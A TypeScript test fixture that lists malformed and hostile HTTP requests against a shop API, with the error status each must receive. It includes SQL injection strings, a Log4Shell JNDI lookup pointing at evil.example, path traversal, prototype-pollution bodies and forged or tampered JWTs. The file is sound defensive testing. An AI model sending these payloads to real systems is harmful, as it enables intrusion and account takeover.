import { randomUUID } from 'node:crypto';
import { forgedTokens } from './tokens';

/**
 * A catalogue of malformed and hostile requests over every route of API.md, each with the 4xx
 * the contract gives it. None of them may change anything: they are built so that the one thing
 * wrong with each is what the test names (a valid body sent with a forged token, a valid order
 * with a key of 129 characters…), never sent as a valid request.
 */

type Method = 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE';

export interface HostileRequest {
  what: string;
  method: Method;
  path: string;
  /** The whole Authorization header, when there is one. */
  authorization?: string;
  headers?: Record<string, string>;
  /** Sent as it is, with `Content-Type: application/json` unless `headers` says otherwise. */
  body?: string;
  status: number;
  /** The error codes API.md allows for this request (one, unless the stack may say either). */
  codes: readonly string[];
}

export interface Customer {
  userId: string;
  email: string;
  token: string;
}

/** What the shop holds before the requests: two customers, one order, a product, a slot. */
export interface FuzzWorld {
  adminToken: string;
  alice: Customer;
  bob: Customer;
  productId: string;
  slotId: string;
  /** Alice's CONFIRMED order of `orderBody`, placed with `orderKey`; it reserves 2 units. */
  aliceOrderId: string;
  orderBody: { items: { productId: string; quantity: number }[]; deliverySlotId: string };
  orderKey: string;
  /** Alice's deposit of `depositAmount`, made with `depositKey`. */
  depositKey: string;
  depositAmount: number;
}

type Json = Record<string, unknown>;

const bearer = (token: string): string => `Bearer ${token}`;
const json = (value: unknown): string => JSON.stringify(value);
const base64url = (value: unknown): string =>
  Buffer.from(JSON.stringify(value)).toString('base64url');

const VALIDATION = ['VALIDATION_FAILED'] as const;
const MALFORMED = ['MALFORMED_JSON'] as const;
// serverless-offline hands a handler the body "null" as no body at all, and the body "\"text\""
// as `text` (MALFORMED_JSON either way); on AWS both are JSON that is no object (VALIDATION_FAILED).
const NOT_AN_OBJECT = ['VALIDATION_FAILED', 'MALFORMED_JSON'] as const;

interface BodyRoute {
  method: Method;
  path: string;
  /** Who may call it; undefined for a public route. */
  token?: string;
  /** A body the route would accept: only ever sent with something else wrong. */
  valid: Json;
  /** Values each field must refuse. */
  invalid: Record<string, unknown[]>;
  /** Fields a client must never send (API.md: strict schemas). */
  unknown: string[];
  headers?: Record<string, string>;
}

const bodyRoutes = (world: FuzzWorld): BodyRoute[] => {
  const { adminToken, alice, productId, orderBody } = world;
  const slotDay = '2301-01-01';
  return [
    {
      method: 'POST',
      path: '/auth/register',
      valid: { email: `fuzz-${randomUUID()}@example.com`, password: 'Passw0rd-fuzz', name: 'Fuzz' },
      invalid: {
        email: ['not-an-email', '', 42, null, `${'a'.repeat(250)}@example.com`, ['a@b.co']],
        password: ['short', '', 12345678, null, 'x'.repeat(257)],
        name: ['', '   ', 42, null, 'x'.repeat(101), { first: 'Ada' }],
        phone: ['abc', '12', 123456, '1'.repeat(30)],
      },
      unknown: ['userId', 'isAdmin', 'groups', 'cognito:groups', 'balance', 'createdAt'],
    },
    {
      method: 'POST',
      path: '/auth/login',
      valid: { email: alice.email, password: 'Passw0rd-fuzz' },
      invalid: { email: [42, null, 'not-an-email'], password: ['', 42, null, 'x'.repeat(257)] },
      unknown: ['isAdmin', 'userId', 'groups'],
    },
    {
      method: 'PATCH',
      path: '/users/me',
      token: alice.token,
      valid: { name: 'Alice Renamed' },
      invalid: { name: ['', '   ', 42, null, 'x'.repeat(101)], phone: ['abc', 42, null] },
      unknown: ['email', 'isAdmin', 'userId', 'groups', 'createdAt'],
    },
    {
      method: 'POST',
      path: '/products',
      token: adminToken,
      valid: { name: 'Fuzz mug', price: 300 },
      invalid: {
        name: ['', 42, null, 'x'.repeat(201)],
        description: [42, null, 'x'.repeat(2001)],
        price: [0, -1, 1.5, '300', null, 100_000_001, 1e308, true],
      },
      unknown: ['productId', 'currency', 'createdAt', 'onHand', 'stock'],
    },
    {
      method: 'PATCH',
      path: `/products/${productId}`,
      token: adminToken,
      valid: { price: 400 },
      invalid: {
        name: ['', 42, null, 'x'.repeat(201)],
        description: [42, null, 'x'.repeat(2001)],
        price: [0, -1, 1.5, '300', null, 100_000_001, 1e308],
      },
      unknown: ['productId', 'currency', 'createdAt'],
    },
    {
      method: 'PUT',
      path: `/inventory/${productId}`,
      token: adminToken,
      valid: { onHand: 50 },
      invalid: { onHand: [-1, 1.5, '5', null, 1e308, 1_000_000_001, true, []] },
      unknown: ['reserved', 'available', 'productId'],
    },
    {
      method: 'POST',
      path: '/wallet/deposits',
      token: alice.token,
      valid: { amount: 100 },
      invalid: { amount: [0, -1, 1.5, '100', null, 100_000_001, 1e308, true, [], {}] },
      unknown: ['userId', 'balance', 'held', 'currency', 'type', 'orderId', 'transactionId'],
    },
    {
      method: 'POST',
      path: '/wallet/withdrawals',
      token: alice.token,
      valid: { amount: 1 },
      invalid: { amount: [0, -1, 1.5, '100', null, 100_000_001, 1e308, true, [], {}] },
      unknown: ['userId', 'balance', 'held', 'currency', 'type', 'orderId', 'transactionId'],
    },
    {
      method: 'POST',
      path: '/delivery/slots',
      token: adminToken,
      valid: { start: `${slotDay}T09:00:00Z`, end: `${slotDay}T11:00:00Z`, capacity: 3 },
      invalid: {
        start: ['tomorrow', '2301-13-01T09:00:00Z', '', 42, null, slotDay],
        end: ['2301-01-01T25:00:00Z', '', 42, null, `${slotDay}T08:00:00Z`],
        capacity: [-1, 1.5, 10_001, '3', null, 1e308],
      },
      unknown: ['slotId', 'booked', 'available'],
    },
    {
      method: 'POST',
      path: '/orders',
      token: alice.token,
      valid: { items: [{ productId, quantity: 1 }], deliverySlotId: orderBody.deliverySlotId },
      invalid: {
        items: [
          [],
          'mug',
          null,
          {},
          Array.from({ length: 51 }, () => ({ productId: randomUUID(), quantity: 1 })),
          [
            { productId, quantity: 1 },
            { productId, quantity: 1 },
          ],
          ...[0, -1, 101, 1.5, '1', null, 1e308].map((quantity) => [{ productId, quantity }]),
          ...['', 42, null, 'x'.repeat(129)].map((id) => [{ productId: id, quantity: 1 }]),
          ...['price', 'unitPrice', 'lineTotal', 'name'].map((field) => [
            { productId, quantity: 1, [field]: 1 },
          ]),
        ],
        deliverySlotId: ['', 42, null, 'x'.repeat(129)],
      },
      unknown: ['total', 'status', 'userId', 'currency', 'orderId', 'price', 'cancellationReason'],
    },
  ];
};

/** What every route with a body must refuse, whatever its fields: broken, foreign or huge. */
const bodyAttacks = (
  valid: Json,
): {
  what: string;
  body: string;
  headers?: Record<string, string>;
  status: number;
  codes: readonly string[];
}[] => {
  const validJson = json(valid);
  const nested = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
  const nestedObject = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
  return [
    { what: 'truncated JSON', body: validJson.slice(0, -1), status: 400, codes: MALFORMED },
    { what: 'an empty body', body: '', status: 400, codes: MALFORMED },
    { what: 'single quotes', body: validJson.replaceAll('"', "'"), status: 400, codes: MALFORMED },
    {
      what: 'a trailing comma',
      body: `${validJson.slice(0, -1)},}`,
      status: 400,
      codes: MALFORMED,
    },
    { what: 'NaN', body: 'NaN', status: 400, codes: MALFORMED },
    { what: 'Infinity in a field', body: '{"amount": Infinity}', status: 400, codes: MALFORMED },
    { what: 'a comment', body: `/* hi */ ${validJson}`, status: 400, codes: MALFORMED },
    { what: 'a NUL byte', body: '\u0000', status: 400, codes: MALFORMED },
    { what: 'a byte-order mark', body: `\uFEFF${validJson}`, status: 400, codes: MALFORMED },
    { what: 'two documents', body: `${validJson}${validJson}`, status: 400, codes: MALFORMED },
    { what: 'a JSON array', body: '[]', status: 400, codes: VALIDATION },
    { what: 'a JSON string', body: '"text"', status: 400, codes: NOT_AN_OBJECT },
    { what: 'a JSON number', body: '42', status: 400, codes: VALIDATION },
    { what: 'JSON true', body: 'true', status: 400, codes: VALIDATION },
    { what: 'JSON null', body: 'null', status: 400, codes: NOT_AN_OBJECT },
    { what: 'the body in an array', body: `[${validJson}]`, status: 400, codes: VALIDATION },
    { what: 'arrays nested 20,000 deep', body: nested(20_000), status: 400, codes: VALIDATION },
    {
      what: 'objects nested 5,000 deep',
      body: nestedObject(5_000),
      status: 400,
      codes: VALIDATION,
    },
    {
      what: 'a __proto__ field',
      body: `{"__proto__":{"isAdmin":true},${validJson.slice(1)}`,
      status: 400,
      codes: VALIDATION,
    },
    {
      what: 'a constructor.prototype field',
      body: json({ ...valid, constructor: { prototype: { isAdmin: true } } }),
      status: 400,
      codes: VALIDATION,
    },
    {
      what: 'a body just over 64 KiB',
      body: json({ ...valid, padding: 'x'.repeat(64 * 1024) }),
      status: 413,
      codes: ['PAYLOAD_TOO_LARGE'],
    },
    {
      what: 'a body of 300 KB',
      body: 'x'.repeat(300_000),
      status: 413,
      codes: ['PAYLOAD_TOO_LARGE'],
    },
    ...[
      'text/plain',
      'application/x-www-form-urlencoded',
      'application/xml',
      'multipart/form-data; boundary=x',
    ].map((contentType) => ({
      what: `the valid body as ${contentType}`,
      body: validJson,
      headers: { 'content-type': contentType },
      status: 415,
      codes: ['UNSUPPORTED_MEDIA_TYPE'],
    })),
  ];
};

function bodyRequests(route: BodyRoute): HostileRequest[] {
  const { method, path, token, valid } = route;
  const authorization = token !== undefined ? bearer(token) : undefined;
  const request = (
    what: string,
    body: string,
    status: number,
    codes: readonly string[],
    headers?: Record<string, string>,
  ): HostileRequest => ({
    what: `${method} ${path.split('/')[1] ?? ''}: ${what}`,
    method,
    path,
    ...(authorization !== undefined ? { authorization } : {}),
    ...(headers !== undefined ? { headers } : {}),
    body,
    status,
    codes,
  });
  return [
    ...bodyAttacks(valid).map((attack) =>
      request(attack.what, attack.body, attack.status, attack.codes, attack.headers),
    ),
    ...Object.entries(route.invalid).flatMap(([field, values]) =>
      values.map((value) =>
        request(
          `${field} ${JSON.stringify(value).slice(0, 40)}`,
          json({ ...valid, [field]: value }),
          400,
          VALIDATION,
        ),
      ),
    ),
    ...route.unknown.map((field) =>
      request(`an unknown field ${field}`, json({ ...valid, [field]: 'x' }), 400, VALIDATION),
    ),
  ];
}

/** Every route that needs a token, with a body it would accept from the right caller. */
const protectedRoutes = (world: FuzzWorld): { method: Method; path: string; body?: Json }[] => [
  { method: 'GET', path: '/users/me' },
  { method: 'PATCH', path: '/users/me', body: { name: 'Mallory' } },
  { method: 'POST', path: '/products', body: { name: 'Forged mug', price: 1 } },
  { method: 'PATCH', path: `/products/${world.productId}`, body: { price: 1 } },
  { method: 'PUT', path: `/inventory/${world.productId}`, body: { onHand: 1_000 } },
  { method: 'GET', path: '/wallet' },
  { method: 'POST', path: '/wallet/deposits', body: { amount: 1_000 } },
  { method: 'POST', path: '/wallet/withdrawals', body: { amount: 1 } },
  { method: 'GET', path: '/wallet/transactions' },
  {
    method: 'POST',
    path: '/delivery/slots',
    body: { start: '2301-01-02T09:00:00Z', end: '2301-01-02T11:00:00Z', capacity: 1 },
  },
  { method: 'POST', path: '/orders', body: world.orderBody },
  { method: 'GET', path: `/orders/${world.aliceOrderId}` },
  { method: 'GET', path: '/orders' },
  { method: 'GET', path: `/orders/${world.aliceOrderId}/saga` },
  { method: 'GET', path: '/notifications' },
];

function authRequests(world: FuzzWorld): HostileRequest[] {
  const token = world.alice.token;
  const badAuthorizations: [string, string | undefined][] = [
    ['no token', undefined],
    ['a garbage token', 'Bearer garbage'],
    ['an empty bearer', 'Bearer '],
    ['Basic credentials', `Basic ${Buffer.from('admin:admin').toString('base64')}`],
    ['the token without Bearer', token],
    ['three empty segments', 'Bearer ..'],
    ['an expired token', bearer(forgedTokens.expired(token))],
    ['a token signed by another key', bearer(forgedTokens.signedByAnotherKey(token))],
    ['an unsigned (alg none) token', bearer(forgedTokens.algNone(token))],
    [
      'a token that adds itself to the admin group',
      bearer(forgedTokens.tampered(token, { 'cognito:groups': ['admin'] })),
    ],
    [
      'a token that says it is bob',
      bearer(forgedTokens.tampered(token, { sub: world.bob.userId })),
    ],
    [
      'a token of another client',
      bearer(forgedTokens.withClaims(token, { client_id: 'another-client' })),
    ],
    [
      'a token of another issuer',
      bearer(forgedTokens.withClaims(token, { iss: 'https://issuer.example/pool' })),
    ],
    ['an ID token', bearer(forgedTokens.withClaims(token, { token_use: 'id' }))],
  ];
  return protectedRoutes(world).flatMap(({ method, path, body }) =>
    badAuthorizations.map(([what, authorization]) => ({
      what: `${method} ${path}: ${what}`,
      method,
      path,
      ...(authorization !== undefined ? { authorization } : {}),
      ...(body !== undefined ? { body: json(body) } : {}),
      status: 401,
      codes: ['UNAUTHENTICATED'],
    })),
  );
}

function adminOnlyRequests(world: FuzzWorld): HostileRequest[] {
  const adminRoutes = protectedRoutes(world).filter(({ method, path }) =>
    ['POST /products', 'PATCH /products/', 'PUT /inventory/', 'POST /delivery/slots'].some(
      (route) => `${method} ${path}`.startsWith(route),
    ),
  );
  return [world.alice, world.bob].flatMap((customer) =>
    adminRoutes.map(({ method, path, body }) => ({
      what: `${method} ${path}: a customer on an admin route`,
      method,
      path,
      authorization: bearer(customer.token),
      ...(body !== undefined ? { body: json(body) } : {}),
      status: 403,
      codes: ['FORBIDDEN'],
    })),
  );
}

/** Ids no resource has, or that try to be something else than an id. */
const strangeIds = [
  randomUUID(),
  "' OR '1'='1",
  '${jndi:ldap://evil.example/a}',
  '..%2F..%2Fhealth',
  '%00',
  '%F0%9F%99%82',
  '*',
  '__proto__',
  'constructor',
  'null',
  'PRODUCT%23x',
  '%20',
];

function idRequests(world: FuzzWorld): HostileRequest[] {
  const { adminToken, bob } = world;
  const routes: { method: Method; path: (id: string) => string; token: string; body?: Json }[] = [
    { method: 'GET', path: (id) => `/products/${id}`, token: bob.token },
    { method: 'GET', path: (id) => `/inventory/${id}`, token: bob.token },
    { method: 'GET', path: (id) => `/orders/${id}`, token: bob.token },
    { method: 'GET', path: (id) => `/orders/${id}/saga`, token: bob.token },
    { method: 'PATCH', path: (id) => `/products/${id}`, token: adminToken, body: { price: 1 } },
    { method: 'PUT', path: (id) => `/inventory/${id}`, token: adminToken, body: { onHand: 5 } },
  ];
  const request = (
    route: (typeof routes)[number],
    id: string,
    what: string,
    status: number,
    codes: readonly string[],
  ): HostileRequest => ({
    what: `${route.method} ${route.path(what)}`,
    method: route.method,
    path: route.path(id),
    authorization: bearer(route.token),
    ...(route.body !== undefined ? { body: json(route.body) } : {}),
    status,
    codes,
  });
  return [
    ...routes.flatMap((route) =>
      strangeIds.map((id) => request(route, id, id, 404, ['NOT_FOUND'])),
    ),
    ...routes.map((route) => request(route, 'x'.repeat(129), '<129 x>', 400, VALIDATION)),
    // Another user's order, asked for by id: as if it did not exist.
    ...routes
      .filter((route) => route.path('id').startsWith('/orders/'))
      .map((route) =>
        request(route, world.aliceOrderId, "<alice's order as bob>", 404, ['NOT_FOUND']),
      ),
  ];
}

function queryRequests(world: FuzzWorld): HostileRequest[] {
  const { alice, bob, aliceOrderId } = world;
  const lists: { path: string; token?: string }[] = [
    { path: '/products?' },
    { path: '/orders?', token: bob.token },
    { path: '/wallet/transactions?', token: bob.token },
    { path: '/notifications?', token: bob.token },
    { path: '/delivery/slots?date=2301-01-01&' },
  ];
  const queries: [string, string][] = [
    ['limit 0', 'limit=0'],
    ['limit 101', 'limit=101'],
    ['limit -1', 'limit=-1'],
    ['limit 1.5', 'limit=1.5'],
    ['limit abc', 'limit=abc'],
    ['limit 1e3', 'limit=1e3'],
    ['a 25-digit limit', `limit=${'9'.repeat(25)}`],
    ['a garbage cursor', 'cursor=garbage!!'],
    ['an empty-object cursor', `cursor=${base64url({})}`],
    ['an array cursor', `cursor=${base64url(['a'])}`],
    ['a cursor of typed values', `cursor=${base64url({ pk: { S: 'x' }, sk: { S: 'y' } })}`],
    ['a cursor of 2049 characters', `cursor=${'A'.repeat(2049)}`],
    [
      "a cursor forged from alice's order",
      `cursor=${base64url({ pk: `ORDER#${aliceOrderId}`, sk: 'ORDER', userId: alice.userId, createdAt: '2026-01-01T00:00:00.000Z' })}`,
    ],
    ["alice's userId as a filter", `userId=${alice.userId}`],
    ['an unknown parameter', 'status=CONFIRMED'],
  ];
  return [
    ...lists.flatMap(({ path, token }) =>
      queries.map(([what, query]): HostileRequest => ({
        what: `GET ${path.split('?')[0] ?? ''}: ${what}`,
        method: 'GET',
        path: `${path}${query}`,
        ...(token !== undefined ? { authorization: bearer(token) } : {}),
        status: 400,
        codes: VALIDATION,
      })),
    ),
    ...[
      '',
      'date=tomorrow',
      'date=2301-02-30',
      'date=2301-1-1',
      "date=' OR 1=1 --",
      'date=2301-01-01T00:00:00Z',
    ].map((query): HostileRequest => ({
      what: `GET /delivery/slots?${query}`,
      method: 'GET',
      path: `/delivery/slots?${query}`,
      status: 400,
      codes: VALIDATION,
    })),
  ];
}

/** Requests that are well formed but must still be refused, each for its own rule of API.md. */
function ruleRequests(world: FuzzWorld): HostileRequest[] {
  const { alice, adminToken, productId, orderBody, orderKey, depositKey, depositAmount } = world;
  const as = (token: string) => bearer(token);
  const unknownProduct = (id: string) => ({
    ...orderBody,
    items: [{ productId: id, quantity: 1 }],
  });
  const post = (
    what: string,
    path: string,
    body: unknown,
    status: number,
    code: string,
    extra: Partial<HostileRequest> = {},
  ): HostileRequest => ({
    what,
    method: 'POST',
    path,
    authorization: as(alice.token),
    body: json(body),
    status,
    codes: [code],
    ...extra,
  });
  return [
    post(
      'POST /orders: the order key again with another body',
      '/orders',
      { ...orderBody, items: [{ productId, quantity: 3 }] },
      422,
      'IDEMPOTENCY_KEY_REUSED',
      { headers: { 'idempotency-key': orderKey } },
    ),
    post(
      'POST /orders: the same order again, no key',
      '/orders',
      orderBody,
      409,
      'DUPLICATE_ORDER',
    ),
    post(
      'POST /orders: an Idempotency-Key of 129 characters',
      '/orders',
      orderBody,
      400,
      'VALIDATION_FAILED',
      { headers: { 'idempotency-key': 'k'.repeat(129) } },
    ),
    post(
      'POST /orders: a fresh key and an unknown product',
      '/orders',
      unknownProduct(randomUUID()),
      400,
      'UNKNOWN_PRODUCT',
      { headers: { 'idempotency-key': randomUUID() } },
    ),
    ...["' OR '1'='1", 'PRODUCT#x', '${jndi:ldap://evil.example/a}', '__proto__'].map((id) =>
      post(`POST /orders: product id ${id}`, '/orders', unknownProduct(id), 400, 'UNKNOWN_PRODUCT'),
    ),
    post(
      'POST /orders: 50 unknown products',
      '/orders',
      {
        ...orderBody,
        items: Array.from({ length: 50 }, () => ({ productId: randomUUID(), quantity: 1 })),
      },
      400,
      'UNKNOWN_PRODUCT',
    ),
    ...[randomUUID(), "' OR '1'='1", 'SLOT#x'].map((id) =>
      post(
        `POST /orders: slot ${id}`,
        '/orders',
        { ...orderBody, deliverySlotId: id },
        400,
        'UNKNOWN_SLOT',
      ),
    ),
    post(
      'POST /wallet/deposits: the deposit key again with another amount',
      '/wallet/deposits',
      { amount: depositAmount + 1 },
      422,
      'IDEMPOTENCY_KEY_REUSED',
      { headers: { 'idempotency-key': depositKey } },
    ),
    post(
      'POST /wallet/withdrawals: more than the wallet has available',
      '/wallet/withdrawals',
      { amount: 100_000_000 },
      409,
      'INSUFFICIENT_FUNDS',
    ),
    post(
      'POST /wallet/deposits: an Idempotency-Key of 129 characters',
      '/wallet/deposits',
      { amount: 100 },
      400,
      'VALIDATION_FAILED',
      { headers: { 'idempotency-key': 'k'.repeat(129) } },
    ),
    {
      what: 'PUT /inventory: fewer on hand than reserved',
      method: 'PUT',
      path: `/inventory/${productId}`,
      authorization: as(adminToken),
      body: json({ onHand: 1 }),
      status: 409,
      codes: ['CONFLICT'],
    },
    ...[alice.email, `  ${alice.email.toUpperCase()} `].map((email) => ({
      what: `POST /auth/register: a taken address ${JSON.stringify(email)}`,
      method: 'POST' as const,
      path: '/auth/register',
      body: json({ email, password: 'Passw0rd-fuzz', name: 'Copycat' }),
      status: 409,
      codes: ['EMAIL_TAKEN'],
    })),
    ...[
      { email: alice.email, password: 'wrong-password' },
      { email: `nobody-${randomUUID()}@example.com`, password: 'Passw0rd-fuzz' },
    ].map((credentials) => ({
      what: `POST /auth/login: ${credentials.password === 'wrong-password' ? 'a wrong password' : 'an unknown address'}`,
      method: 'POST' as const,
      path: '/auth/login',
      body: json(credentials),
      status: 401,
      codes: ['UNAUTHENTICATED'],
    })),
  ];
}

/** Methods and paths API.md does not have: the contract's 404, like any unknown resource. */
function unknownRouteRequests(world: FuzzWorld): HostileRequest[] {
  const routes: [Method, string][] = [
    ['DELETE', `/orders/${world.aliceOrderId}`],
    ['PUT', `/orders/${world.aliceOrderId}`],
    ['PATCH', '/wallet'],
    ['DELETE', `/products/${world.productId}`],
    ['POST', '/health'],
    ['GET', '/admin'],
    ['GET', `/orders/${world.aliceOrderId}/saga/extra`],
    ['POST', `/users/${world.bob.userId}`],
    ['GET', `/wallet/${world.bob.userId}`],
  ];
  return routes.map(([method, path]) => ({
    what: `${method} ${path}: no such route`,
    method,
    path,
    authorization: bearer(world.alice.token),
    status: 404,
    codes: ['NOT_FOUND'],
  }));
}

export const hostileRequests = (world: FuzzWorld): HostileRequest[] => [
  ...unknownRouteRequests(world),
  ...bodyRoutes(world).flatMap(bodyRequests),
  ...authRequests(world),
  ...adminOnlyRequests(world),
  ...idRequests(world),
  ...queryRequests(world),
  ...ruleRequests(world),
];
